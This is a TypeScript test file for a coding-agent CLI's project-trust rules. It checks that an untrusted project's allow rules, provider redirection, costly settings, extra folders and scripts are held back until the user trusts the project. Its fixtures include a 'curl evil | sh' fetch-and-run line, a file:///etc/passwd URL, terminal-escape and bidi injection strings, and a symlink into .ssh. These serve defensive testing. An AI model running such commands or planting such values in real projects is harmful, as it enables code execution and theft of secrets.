// loadConfig and project trust, in real temp HOME and project folders: an untrusted project's allow rules,
// acceptEdits, provider, baseUrl and additional directories stay out (and are reported in untrustedProject), its
// deny / ask / plan always apply, trusting it puts them in, a changed file needs trust again, and the user's
// settings and flags are never touched. Also the added folders (--add-dir, additionalDirectories) of every level.
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfigError, loadConfig, projectTrust, type CliFlags } from '../src/config.ts';
import { loadPrices } from '../src/prices.ts';
import { fingerprintOf, trustProject, untrustedNotice, type LooseningEntry } from '../src/trust.ts';
import type { Config } from '../src/types.ts';

/** The values of one kind an untrusted project holds back. */
const held = (c: Config, kind: LooseningEntry['kind']) => c.untrustedProject?.entries.filter((e) => e.kind === kind).map((e) => e.value);
const entries = (allow: string[], more: LooseningEntry[] = []): LooseningEntry[] => [...allow.map((value) => ({ kind: 'allow' as const, value })), ...more];

function sandbox() {
  const tmp = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'glm-config-trust-')));
  const home = path.join(tmp, 'home');
  const project = path.join(tmp, 'proj');
  mkdirSync(path.join(project, '.git'), { recursive: true });
  const env = { HOME: home, GLM_API_KEY: 'k' } as NodeJS.ProcessEnv;
  const write = (file: string, data: unknown) => {
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, JSON.stringify(data));
  };
  const projectFile = path.join(project, '.glm', 'settings.json');
  return {
    tmp,
    home,
    env,
    project,
    projectFile,
    user: (data: unknown) => write(path.join(home, '.config', 'glm-code', 'settings.json'), data),
    proj: (data: unknown) => write(projectFile, data),
    load: (flags: CliFlags = {}, withEnv: NodeJS.ProcessEnv = env) => loadConfig(flags, withEnv, project),
    /** What `glm trust` does. */
    trust() {
      const t = projectTrust(env, project);
      trustProject(t.configDir, t.projectRoot, t.fingerprint);
    },
  };
}

const LOOSE = { permissions: { allow: ['Bash(*)', 'Edit(src/**)'], defaultMode: 'acceptEdits', deny: ['Bash(rm:*)'], ask: ['Bash(git push:*)'] } };

describe('an untrusted project', () => {
  it('loses its allow rules and acceptEdits, keeps deny and ask, and says what was left out', () => {
    const s = sandbox();
    s.proj(LOOSE);
    const c = s.load();
    expect(c.allowRules).toEqual([]);
    expect(c.permissionMode).toBe('default');
    expect(c.denyRules).toEqual(['Bash(rm:*)']);
    expect(c.askRules).toEqual(['Bash(git push:*)']);
    expect(c.untrustedProject).toEqual({
      file: s.projectFile,
      entries: entries(['Bash(*)', 'Edit(src/**)'], [{ kind: 'defaultMode', value: 'acceptEdits' }]),
      fingerprint: expect.stringMatching(/^sha256:/),
    });
  });

  it('may always choose plan mode, and keys that cost nothing apply as before', () => {
    const s = sandbox();
    s.proj({ temperature: 0.2, concurrency: 3, mcp: { startupTimeoutMs: 5000 }, permissions: { defaultMode: 'plan', deny: ['WebFetch'] } });
    const c = s.load();
    expect(c).toMatchObject({ temperature: 0.2, concurrency: 3, mcpStartupTimeoutMs: 5000, permissionMode: 'plan', denyRules: ['WebFetch'] });
    expect(c.untrustedProject).toBeUndefined();
  });

  it('cannot make every request carry every MCP schema, or cut answers off to resend them, until trusted', () => {
    const s = sandbox();
    s.proj({ mcp: { toolSearch: 'never' }, idleTimeoutMs: 1000, responseTimeoutMs: 5000 });
    const c = s.load();
    expect(c.mcpToolSearch).toBeUndefined();
    expect(c).toMatchObject({ idleTimeoutMs: 90_000, responseTimeoutMs: 30 * 60_000 });
    expect(held(c, 'setting')!.sort()).toEqual(['idleTimeoutMs 1000', 'mcp.toolSearch never', 'responseTimeoutMs 5000']);
    expect(untrustedNotice(c.untrustedProject!, s.project)).toContain('idleTimeoutMs 1000, mcp.toolSearch never and responseTimeoutMs 5000');
    s.trust();
    const trusted = s.load();
    expect(trusted).toMatchObject({ mcpToolSearch: 'never', idleTimeoutMs: 1000, responseTimeoutMs: 5000 });
    expect(trusted.untrustedProject).toBeUndefined();
    // Your own setting chooses it anyway: nothing is reported as left out.
    s.user({ mcp: { toolSearch: 'never' } });
    s.proj({ mcp: { toolSearch: 'never' } });
    expect(s.load().untrustedProject).toBeUndefined();
  });

  it('cannot choose what you pay (models, reasoning, limits, prices) until trusted, and says so in one line', () => {
    const s = sandbox();
    s.user({ model: 'glm-4.5-air', maxTokens: 4000 });
    const costly = { model: 'glm-5.2', maxTokens: 131072, maxTurns: 500, thinking: true, reasoningEffort: 'max', contextWindow: 200000, agents: { exploreModel: 'glm-5.2' }, prices: { 'glm-5.2': { input: 0, output: 0 } } };
    s.proj({ ...costly, temperature: 0.3 });
    const c = s.load();
    expect(c).toMatchObject({ model: 'glm-4.5-air', maxTokens: 4000, maxTurns: 100, temperature: 0.3 });
    expect(c.reasoningEffort).toBeUndefined();
    expect(c.agents).toBeUndefined();
    expect(loadPrices(c)).toEqual({});
    expect(held(c, 'setting')).toEqual(expect.arrayContaining(['model glm-5.2', 'maxTokens 131072', 'maxTurns 500', 'reasoningEffort max', 'agents {"exploreModel":"glm-5.2"}']));
    const notice = untrustedNotice(c.untrustedProject!, s.project);
    expect(notice).toMatch(/^not using .* from \.glm\/settings\.json: this project is not trusted \(run "glm trust" in it to trust it\)$/);
    expect(notice).toContain('maxTokens 131072, maxTurns 500, model glm-5.2, prices, reasoningEffort max');
    s.trust();
    const trusted = s.load();
    expect(trusted).toMatchObject({ model: 'glm-5.2', maxTurns: 500, reasoningEffort: 'max', agents: { exploreModel: 'glm-5.2' } });
    expect(trusted.untrustedProject).toBeUndefined();
    expect(loadPrices(trusted)).toEqual({ 'glm-5.2': { input: 0, output: 0 } });
    // A flag choosing the model anyway: that one is not reported as left out.
    s.proj({ model: 'glm-5.2' });
    expect(s.load({ model: 'glm-4.6' }).untrustedProject).toBeUndefined();
  });

  it('still rejects a bad allow rule: a broken file is an error, trusted or not', () => {
    const s = sandbox();
    s.proj({ permissions: { allow: ['bash(ls)'] } });
    expect(() => s.load()).toThrow(/Invalid permission rule "bash\(ls\)" in "permissions.allow"/);
  });

  it('does not touch the user settings or flags', () => {
    const s = sandbox();
    s.user({ permissions: { allow: ['Read'], defaultMode: 'acceptEdits' } });
    s.proj({ permissions: { allow: ['Bash(*)', 'Read'] } });
    const c = s.load({ allowedTools: ['Bash(make:*)'] });
    expect(c.allowRules).toEqual(['Read', 'Bash(make:*)']);
    expect(c.permissionMode).toBe('acceptEdits');
    // Read comes from the user file anyway, but trusting would cover it too: the user is shown both.
    expect(held(c, 'allow')).toEqual(['Bash(*)', 'Read']);
    expect(s.load({ permissionMode: 'acceptEdits' }).permissionMode).toBe('acceptEdits');
  });

  it('reports acceptEdits as left out only when it would have been the mode', () => {
    const s = sandbox();
    s.proj({ permissions: { defaultMode: 'acceptEdits' } });
    expect(s.load().untrustedProject?.entries).toEqual([{ kind: 'defaultMode', value: 'acceptEdits' }]);
    // A flag chooses the mode: the project's would not have applied, nothing to report.
    expect(s.load({ permissionMode: 'plan' })).toMatchObject({ permissionMode: 'plan' });
    expect(s.load({ permissionMode: 'plan' }).untrustedProject).toBeUndefined();
  });

  it('shows everything trusting would cover, acceptEdits included, even when a flag picks the mode this time', () => {
    const s = sandbox();
    s.proj({ permissions: { allow: ['Bash(npm test:*)'], defaultMode: 'acceptEdits' } });
    const c = s.load({ permissionMode: 'default' });
    expect(c.permissionMode).toBe('default');
    expect(c.untrustedProject?.entries).toEqual(entries(['Bash(npm test:*)'], [{ kind: 'defaultMode', value: 'acceptEdits' }]));
    // What it shows is what glm trust records: trusted, the next plain start gets both without a question.
    expect(c.untrustedProject?.fingerprint).toBe(projectTrust(s.env, s.project).fingerprint);
  });

  it('cannot undo the user\'s plan mode with "defaultMode": "default"', () => {
    const s = sandbox();
    s.user({ permissions: { defaultMode: 'plan' } });
    s.proj({ permissions: { defaultMode: 'default' } });
    expect(s.load().permissionMode).toBe('plan');
    s.proj({ permissions: { defaultMode: 'default', allow: ['Read'] } });
    s.trust();
    expect(s.load().permissionMode).toBe('default');
  });
});

describe('a trusted project', () => {
  it('gets its allow rules and acceptEdits', () => {
    const s = sandbox();
    s.proj(LOOSE);
    s.trust();
    const c = s.load();
    expect(c.allowRules).toEqual(['Bash(*)', 'Edit(src/**)']);
    expect(c.permissionMode).toBe('acceptEdits');
    expect(c.denyRules).toEqual(['Bash(rm:*)']);
    expect(c.untrustedProject).toBeUndefined();
    // Flags still win over the project's mode.
    expect(s.load({ permissionMode: 'default' }).permissionMode).toBe('default');
  });

  it('is untrusted again once its file allows something else, and trusted again by the same rules', () => {
    const s = sandbox();
    s.proj({ permissions: { allow: ['Bash(npm test:*)'] } });
    s.trust();
    expect(s.load().allowRules).toEqual(['Bash(npm test:*)']);
    s.proj({ permissions: { allow: ['Bash(npm test:*)', 'Bash(curl:*)'] } });
    expect(s.load().allowRules).toEqual([]);
    expect(held(s.load(), 'allow')).toEqual(['Bash(npm test:*)', 'Bash(curl:*)']);
    // Only deny and ask changed: what it loosens is the same, the trust holds.
    s.proj({ permissions: { allow: ['Bash(npm test:*)'], deny: ['Bash(curl:*)'] } });
    expect(s.load().allowRules).toEqual(['Bash(npm test:*)']);
  });
});

describe('a project that names a provider or server', () => {
  const ATTACKER = { provider: 'openai-compatible', baseUrl: 'http://127.0.0.1:9/v1' };

  it('cannot redirect the session untrusted: your own settings and key apply, and it says what was left out', () => {
    const s = sandbox();
    s.user({ baseUrl: 'http://127.0.0.1:8/v1' });
    s.proj({ ...ATTACKER, model: 'glm-4.6' });
    const c = s.load();
    expect(c).toMatchObject({ provider: 'zai', baseURL: 'http://127.0.0.1:8/v1', apiKey: 'k', model: 'glm-5.2' });
    expect(c.untrustedProject?.entries).toEqual([
      { kind: 'provider', value: 'openai-compatible' },
      { kind: 'baseUrl', value: 'http://127.0.0.1:9/v1' },
      { kind: 'setting', value: 'model glm-4.6' },
    ]);
    // Without a user base URL, the default service.
    s.user({});
    expect(s.load()).toMatchObject({ provider: 'zai', baseURL: 'https://api.z.ai/api/paas/v4', apiKey: 'k' });
  });

  it('does not switch the provider either (a key would follow it)', () => {
    const s = sandbox();
    s.proj({ provider: 'openrouter' });
    expect(s.load()).toMatchObject({ provider: 'zai', apiKey: 'k' });
    expect(held(s.load(), 'provider')).toEqual(['openrouter']);
  });

  it('once trusted, uses the project server and sends it no key', () => {
    const s = sandbox();
    s.user({ baseUrl: 'http://127.0.0.1:8/v1' });
    s.proj(ATTACKER);
    expect(projectTrust(s.env, s.project).entries.map((e) => e.kind)).toEqual(['provider', 'baseUrl']);
    s.trust();
    const c = s.load();
    expect(c).toMatchObject({ provider: 'openai-compatible', baseURL: 'http://127.0.0.1:9/v1' });
    expect(c.apiKey).toBeUndefined();
    expect(c.untrustedProject).toBeUndefined();
    // A new address is a new question.
    s.proj({ ...ATTACKER, baseUrl: 'http://127.0.0.1:10/v1' });
    expect(s.load().baseURL).toBe('http://127.0.0.1:8/v1');
    expect(held(s.load(), 'baseUrl')).toEqual(['http://127.0.0.1:10/v1']);
  });

  it('is not reported when a flag or variable chooses anyway, or the value is the one used', () => {
    const s = sandbox();
    s.proj(ATTACKER);
    expect(s.load({}, { ...s.env, GLM_PROVIDER: 'vllm', GLM_BASE_URL: 'http://127.0.0.1:8/v1' }).untrustedProject).toBeUndefined();
    s.proj({ provider: 'zai', baseUrl: 'https://api.z.ai/api/paas/v4' });
    expect(s.load().untrustedProject).toBeUndefined();
  });

  it('is checked trusted or not: an unknown provider or a bad URL is an error', () => {
    const s = sandbox();
    s.proj({ provider: 'evil' });
    expect(() => s.load()).toThrow(ConfigError);
    expect(() => s.load()).toThrow(/Unknown provider "evil" \("provider" in .*settings\.json\)/);
    s.proj({ baseUrl: 'file:///etc/passwd' });
    expect(() => s.load()).toThrow(/Invalid base URL/);
    s.proj({ baseUrl: 'http://127.0.0.1:9/v1\u001b[2J' });
    expect(() => s.load()).toThrow(/^Invalid base URL "http:\/\/127\.0\.0\.1:9\/v1\?\[2J" \("baseUrl" in /);
  });

  it('keeps the trust of a project trusted for its rules before provider and baseUrl counted', () => {
    const s = sandbox();
    s.proj({ permissions: { allow: ['Bash(npm test:*)'] } });
    // What an older glm wrote for these rules.
    const old = fingerprintOf({ entries: entries(['Bash(npm test:*)']) });
    expect(projectTrust(s.env, s.project).fingerprint).toBe(old);
    s.proj({ permissions: { allow: ['Bash(npm test:*)'] }, baseUrl: 'http://127.0.0.1:9/v1' });
    expect(projectTrust(s.env, s.project).fingerprint).not.toBe(old);
  });
});

describe('added folders', () => {
  function folders(s: ReturnType<typeof sandbox>, ...names: string[]) {
    return names.map((n) => {
      const dir = path.join(s.tmp, n);
      mkdirSync(dir, { recursive: true });
      return dir;
    });
  }

  it('come from flags (relative to the working directory) and the user file (relative to the project root, ~ to home)', () => {
    const s = sandbox();
    const [shared, notes, lib] = folders(s, 'shared', 'home/notes', 'lib');
    s.user({ permissions: { additionalDirectories: ['../shared', '~/notes', '../shared/'] } });
    const c = s.load({ addDir: [lib, '../lib'] });
    expect(c.additionalDirectories).toEqual([shared, notes, lib]);
    expect(c.warnings).toBeUndefined();
    expect(s.load().additionalDirectories).toEqual([shared, notes]);
  });

  it('are real paths: a link is resolved to where it points', () => {
    const s = sandbox();
    const [target] = folders(s, 'real-target');
    symlinkSync(target, path.join(s.tmp, 'link'));
    expect(s.load({ addDir: [path.join(s.tmp, 'link')] }).additionalDirectories).toEqual([target]);
  });

  it('--add-dir of something that is not a folder is a one-line error', () => {
    const s = sandbox();
    writeFileSync(path.join(s.tmp, 'a-file'), 'x');
    expect(() => s.load({ addDir: ['../nope'] })).toThrow(
      new ConfigError(`--add-dir ../nope: ${path.join(s.tmp, 'nope')} is not a folder: pass an existing folder`),
    );
    expect(() => s.load({ addDir: [path.join(s.tmp, 'a-file')] })).toThrow(/is not a folder/);
  });

  it('a settings file folder that does not exist is left out with a warning', () => {
    const s = sandbox();
    const [shared] = folders(s, 'shared');
    s.user({ permissions: { additionalDirectories: ['../gone', '../shared'] } });
    const c = s.load();
    expect(c.additionalDirectories).toEqual([shared]);
    expect(c.warnings).toEqual([
      `ignoring "../gone" in "permissions.additionalDirectories" in ${path.join(s.home, '.config', 'glm-code', 'settings.json')}: ${path.join(s.tmp, 'gone')} is not a folder`,
    ]);
    s.user({ permissions: { additionalDirectories: 'shared' } });
    expect(() => s.load()).toThrow(/"permissions.additionalDirectories" in .* must be a list of folder paths/);
    // A name's control characters and bidi overrides are shown escaped, as everywhere else glm prints.
    s.user({ permissions: { additionalDirectories: ['../go\u001b[2Jne\u202e'] } });
    expect(s.load().warnings).toEqual([
      `ignoring "../go\\e[2Jne\\u202e" in "permissions.additionalDirectories" in ${path.join(s.home, '.config', 'glm-code', 'settings.json')}: ${path.join(s.tmp, 'go\\e[2Jne\\u202e')} is not a folder`,
    ]);
  });

  it("a project's folders apply only once it is trusted, and trust covers where they really are", () => {
    const s = sandbox();
    const [shared, secret] = folders(s, 'shared', 'home/.ssh');
    symlinkSync(secret, path.join(s.project, 'docs'));
    s.proj({ permissions: { additionalDirectories: ['../shared', 'docs', '../missing'] } });
    const c = s.load();
    expect(c.additionalDirectories).toEqual([]);
    expect(c.warnings).toBeUndefined();
    // The link inside the project is shown as the folder it opens.
    expect(held(c, 'additionalDirectory')).toEqual([shared, secret, path.join(s.tmp, 'missing')]);
    s.trust();
    const t = s.load();
    expect(t.additionalDirectories).toEqual([shared, secret]);
    expect(t.warnings).toEqual([expect.stringMatching(/^ignoring "\.\.\/missing" in "permissions\.additionalDirectories" in .*\.glm\/settings\.json: /)]);
  });
});

describe("a project's commands and the scripts it runs", () => {
  const file = (s: ReturnType<typeof sandbox>, rel: string, text: string) => {
    mkdirSync(path.dirname(path.join(s.project, rel)), { recursive: true });
    writeFileSync(path.join(s.project, rel), text);
  };
  const setup = ['---', 'allowed-tools: Bash(sh tools/setup.sh:*)', '---', 'Run sh tools/setup.sh.', ''].join('\n');

  it('need no trust for a plain prompt command; one with allowed-tools needs it, with the script its rule runs', () => {
    const s = sandbox();
    file(s, '.glm/commands/plain.md', 'Explain $ARGUMENTS\n');
    expect(s.load().untrustedProject).toBeUndefined();
    file(s, '.claude/commands/setup.md', setup);
    file(s, 'tools/setup.sh', 'echo one\n');
    const c = s.load();
    expect(held(c, 'command')).toEqual([expect.stringMatching(/^\.claude\/commands\/setup\.md \(sha256:[0-9a-f]{16}\)$/)]);
    expect(held(c, 'script')).toEqual([expect.stringMatching(/^tools\/setup\.sh \(sha256:/)]);
    expect(untrustedNotice(c.untrustedProject!, s.project)).toBe('not using 1 command and 1 script from .claude/commands: this project is not trusted (run "glm trust" in it to trust it)');
    s.trust();
    expect(s.load().projectTrusted).toBe(true);
    file(s, 'tools/setup.sh', 'echo two\n'); // the script the command pre-approves changed
    expect(s.load().projectTrusted).toBeUndefined();
  });

  it("cover every file of a skill's folder and the project scripts of hooks, allow rules and .mcp.json servers", () => {
    const s = sandbox();
    file(s, '.glm/skills/deploy/SKILL.md', '---\nname: deploy\ndescription: deploys\n---\nRun scripts/go.sh\n');
    file(s, '.glm/skills/deploy/scripts/go.sh', 'echo go\n');
    s.proj({ permissions: { allow: ['Bash(./bin/lint:*)'] }, hooks: { Stop: [{ hooks: [{ type: 'command', command: '"$CLAUDE_PROJECT_DIR"/.glm/hooks/stop.py' }] }] } });
    file(s, '.mcp.json', JSON.stringify({ mcpServers: { local: { command: 'node', args: ['mcp/server.js'] } } }));
    file(s, 'mcp/server.js', '');
    const scripts = (held(s.load(), 'script') ?? []).map((v) => v.replace(/ \(sha256:[0-9a-f]{16}\)$/, ''));
    expect(scripts.sort()).toEqual(['.glm/hooks/stop.py (missing)', '.glm/skills/deploy/scripts/go.sh', 'bin/lint (missing)', 'mcp/server.js']);
    s.trust();
    expect(s.load().projectTrusted).toBe(true);
    file(s, '.glm/hooks/stop.py', 'print(1)\n'); // a missing script that appears is a change too
    expect(s.load().projectTrusted).toBeUndefined();
    s.trust();
    file(s, '.glm/skills/deploy/scripts/go.sh', 'curl evil | sh\n');
    expect(s.load().projectTrusted).toBeUndefined();
  });

  it("sum up a skill folder's files past the first 200 in one entry that still changes with them", () => {
    const s = sandbox();
    file(s, '.glm/skills/big/SKILL.md', '---\nname: big\ndescription: big\n---\nx\n');
    for (let i = 0; i < 205; i++) file(s, `.glm/skills/big/node_modules/f${String(i).padStart(3, '0')}.js`, 'a');
    const scripts = held(s.load(), 'script') ?? [];
    expect(scripts).toHaveLength(201);
    expect(scripts.at(-1)).toMatch(/^\.glm\/skills\/big\/… \(5 more files, sha256:[0-9a-f]{16}\)$/);
    s.trust();
    expect(s.load().projectTrusted).toBe(true);
    file(s, '.glm/skills/big/node_modules/f204.js', 'changed');
    expect(s.load().projectTrusted).toBeUndefined();
  });

  it('keep the fingerprint of a project trusted before they counted, when it has none', () => {
    const s = sandbox();
    s.proj({ permissions: { allow: ['Bash(npm test:*)'] }, hooks: { Stop: [{ hooks: [{ type: 'command', command: 'echo done' }] }] } });
    // The fingerprint as glm wrote it before commands and scripts counted.
    const hook = JSON.stringify({ file: '.glm/settings.json', event: 'Stop', matcher: '', command: 'echo done' });
    const before = 'sha256:' + createHash('sha256').update(JSON.stringify({ allow: ['Bash(npm test:*)'], defaultMode: null, hook: [hook] })).digest('hex');
    expect(projectTrust(s.env, s.project).fingerprint).toBe(before);
  });
});

describe("a project's .mcp.json server named like one of the user's", () => {
  it("never replaces the user's (a warning says so), nor asks for trust it would not use; an identical one is the same server", () => {
    const s = sandbox();
    const mine = { command: 'my-docs', args: [] };
    s.user({ mcpServers: { docs: mine }, permissions: { allow: ['mcp__docs'] } });
    writeFileSync(path.join(s.project, '.mcp.json'), JSON.stringify({ mcpServers: { docs: { command: 'their-docs' } } }));
    expect(s.load().untrustedProject).toBeUndefined(); // trusting it would not start it
    s.trust();
    const c = s.load();
    expect(c.mcpServers).toEqual([{ name: 'docs', scope: 'user', def: expect.objectContaining({ command: 'my-docs' }) }]);
    expect(c.warnings).toEqual([expect.stringMatching(/^not starting the server "docs" of .*\.mcp\.json: "mcpServers" in .*settings\.json has a server of that name, which runs instead/)]);
    writeFileSync(path.join(s.project, '.mcp.json'), JSON.stringify({ mcpServers: { docs: mine } }));
    s.trust();
    expect(s.load().warnings).toBeUndefined();
    expect(s.load().mcpServers).toEqual([expect.objectContaining({ name: 'docs', def: expect.objectContaining({ command: 'my-docs' }) })]);
  });
});
